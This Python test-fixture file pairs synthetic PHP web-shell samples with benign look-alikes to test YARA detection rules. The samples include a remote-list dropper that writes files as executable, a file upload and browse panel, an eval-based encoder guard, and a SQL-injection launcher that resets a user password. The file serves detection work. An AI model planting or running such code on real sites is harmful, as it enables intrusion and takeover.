"""Must-hit / near-miss samples for `signatures/large_kits.yar` (issue 4h).

Small synthetic PHP written for the tests; no corpus excerpts. Each near-miss is the legitimate
look-alike of its rule: code with UTF-8 identifiers but no encoder self-check, a plugin
updater that downloads one fixed URL, a module registry without the kit helpers, a gallery
that lists one directory and serves thumbnails, and a site health checker that fetches a
user-given URL without an injection payload.
"""

from __future__ import annotations


def php(body: str) -> bytes:
    """A PHP file around `body`."""
    return ("<?php\n" + body + "\n").encode()


def php_bytes(body: bytes) -> bytes:
    """A PHP file around raw bytes (for high-bit identifiers)."""
    return b"<?php\n" + body + b"\n"


# Encoder output: function, parameter and constant names in raw high-bit bytes.
ENCODED = php_bytes(
    b"if(!defined('\xb4\xe9\xc1')){define('\xb4\xe9\xc1',__FILE__);"
    b"function \xc6\xf5\xa8(&$\xd3\xe2,$\xa1\xb2=''){global $\xe1\xe5;"
    b"if(!$\xa1\xb2)return base64_decode($\xd3\xe2);return strrev($\xd3\xe2);}"
    b"eval(\xc6\xf5\xa8('ZWNobyAxOw=='));}"
)
# Near-miss: UTF-8 identifiers in ordinary code, no encoder self-check.
ENCODED_NEAR = php_bytes(
    b"function \xe8\xae\xa1\xe7\xae\x97($\xe6\x95\xb0) { return $\xe6\x95\xb0 * 2; }\n"
    b"$s = base64_decode($_GET['q'] ?? '');\necho htmlspecialchars($s);"
)

DROPPER = php(
    "$list = trim($_GET['src']);\n"
    "$body = file_get_contents($list);\n"
    'foreach (explode("\\n", $body) as $u) {\n'
    "  $name = end(explode('/', $u));\n"
    "  $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $data = curl_exec($ch);\n"
    "  file_put_contents($name, $data); @chmod($name, 0755);\n"
    "}"
)
# Near-miss: an updater that downloads a fixed URL into a data file, no chmod to executable.
DROPPER_NEAR = php(
    "$page = (int) $_GET['page'];\n"
    "$data = file_get_contents('https://updates.example.org/feed.json');\n"
    "foreach (json_decode($data, true) as $item) { $name = basename($item['file']); }\n"
    "file_put_contents(__DIR__ . '/cache/feed.json', $data); chmod(__DIR__ . '/cache/feed.json', 0644);"
)

B374K_LAYOUT = php(
    "?><title><?php echo $GLOBALS['title']; ?></title>"
    "<link rel='icon' href='<?php echo get_resource('logo'); ?>'>\n<?php\n"
    "foreach ($GLOBALS['module_to_load'] as $k) {\n"
    "  echo \"<a id='m\" . $GLOBALS['module'][$k]['id'] . \"'>\";\n"
    "  echo $GLOBALS['module'][$k]['title'] . '</a>';\n"
    "}\nforeach (get_server_info() as $k => $v) echo '<div>' . $v . '</div>';"
)
# Near-miss: a CMS module registry without the kit's helper functions.
B374K_LAYOUT_NEAR = php(
    "foreach ($GLOBALS['module_to_load'] as $k) {\n"
    "  echo $GLOBALS['module'][$k]['title'] . $GLOBALS['module'][$k]['content'];\n"
    "}\necho get_footer();"
)

PANEL = php(
    "$dir = isset($_GET['dir']) ? $_GET['dir'] : '.';\n"
    "$file = isset($_GET['file']) ? $_GET['file'] : '';\n"
    "if ($file != '') { header('Content-Disposition: attachment; filename=x'); readfile($file); die(); }\n"
    "if (isset($_FILES['up'])) { $dest = './' . $_FILES['up']['name'];"
    " move_uploaded_file($_FILES['up']['tmp_name'], $dest); }\n"
    "$h = opendir($dir);\n"
    "while ($e = readdir($h)) {"
    " echo '<a href=\"' . $_SERVER['PHP_SELF'] . '?dir=' . urlencode($dir . '/' . $e) . '\">';"
    " echo $e . '</a>'; }"
)
PANEL_ROOT = php(
    "$dir = isset($_GET['dir']) ? $_GET['dir'] : '.';\n"
    "$file = isset($_GET['file']) ? $_GET['file'] : '';\n"
    "if ($file != '') { readfile($file); die(); }\n"
    "echo '<a href=\"' . $_SERVER['PHP_SELF'] . '?dir=/\">/</a>';\n"
    "foreach (scandir($dir) as $e) echo \"<a href='?dir=$dir/$e'>$e</a>\";"
)
# Near-miss: a gallery browsing its own album dirs, serving files by id, no upload, no root link.
PANEL_NEAR = php(
    "$dir = basename($_GET['album'] ?? 'main');\n"
    "$id = (int) ($_GET['id'] ?? 0);\n"
    "foreach (glob(__DIR__ . '/albums/' . $dir . '/*.jpg') as $e)"
    " echo \"<a href='?album=$dir&id=\" . $id . \"'>\" . basename($e) . '</a>';\n"
    "header('Content-Disposition: attachment; filename=photo.jpg'); readfile($path);"
)

LAUNCHER = php(
    "$url = $_GET['site'];\n"
    "$post = \"name[0;update users set pass %3D 'x' where uid %3D 1;#]=a&form_id=user_login\";\n"
    "$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => $post)));\n"
    "$r = file_get_contents($url . '/user/login', false, $ctx);\n"
    "if (strpos($r, 'mb_strlen') !== false) echo 'Success! site is vulnerable';"
)
# Near-miss: an uptime checker that POSTs a ping to a user-given site; no injection payload.
LAUNCHER_NEAR = php(
    "$url = $_GET['site'];\n"
    "$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => 'ping=1')));\n"
    "$r = @file_get_contents($url, false, $ctx);\n"
    "echo $r === false ? 'down' : 'Success: site is up';\n"
    "$q = 'SELECT id FROM checks UNION SELECT id FROM archive';"
)

GUARDED = php(
    "error_reporting(0);ini_set('display_errors', 0);"
    "if(!defined('qwkzmrta')){define('qwkzmrta',__FILE__);"
    "if(!function_exists('qx')){function qx($s){return strrev($s);}}"
    "eval(qx(';1 ohce'));}"
)
# Near-miss: a plugin main file that remembers its own path under an upper-case constant.
GUARDED_NEAR = php(
    "if (!defined('MYPLUGIN_FILE')) { define('MYPLUGIN_FILE', __FILE__); }\n"
    "if (!function_exists('myplugin_boot')) { function myplugin_boot() { return true; } }\n"
    "error_reporting(0);"
)

LAUDANUM = php(
    "/* Laudanum Project - injectable files for a penetration test */\n"
    "$allowedIPs = array('192.0.2.10');\n$ok = false;\n"
    "foreach ($allowedIPs as $IP) { if ($_SERVER['REMOTE_ADDR'] == $IP) $ok = true; }\n"
    "if (!$ok) { header('HTTP/1.0 404 Not Found'); die(); }\n"
    "echo gethostbyname($_GET['host']);"
)
# Near-miss: a page that credits the project in prose but has no gate, include or wrapper.
LAUDANUM_NEAR = php(
    "// Test notes: compare with the Laudanum Project write-up.\n"
    "if ($_SERVER['REMOTE_ADDR'] == '127.0.0.1') { echo 'local'; }"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_LARGE_EncoderSelfGuard", GUARDED, True),
    ("SPAMGEAR_LARGE_EncoderSelfGuard", GUARDED_NEAR, False),
    ("SPAMGEAR_FAMILY_Laudanum", LAUDANUM, True),
    ("SPAMGEAR_FAMILY_Laudanum", LAUDANUM_NEAR, False),
    ("SPAMGEAR_LARGE_HighBitNameEncoder", ENCODED, True),
    ("SPAMGEAR_LARGE_HighBitNameEncoder", ENCODED_NEAR, False),
    ("SPAMGEAR_LARGE_RemoteListDropper", DROPPER, True),
    ("SPAMGEAR_LARGE_RemoteListDropper", DROPPER_NEAR, False),
    ("SPAMGEAR_LARGE_B374kLayout", B374K_LAYOUT, True),
    ("SPAMGEAR_LARGE_B374kLayout", B374K_LAYOUT_NEAR, False),
    ("SPAMGEAR_LARGE_UploadBrowsePanel", PANEL, True),
    ("SPAMGEAR_LARGE_UploadBrowsePanel", PANEL_ROOT, True),
    ("SPAMGEAR_LARGE_UploadBrowsePanel", PANEL_NEAR, False),
    ("SPAMGEAR_LARGE_SqliExploitLauncher", LAUNCHER, True),
    ("SPAMGEAR_LARGE_SqliExploitLauncher", LAUNCHER_NEAR, False),
]
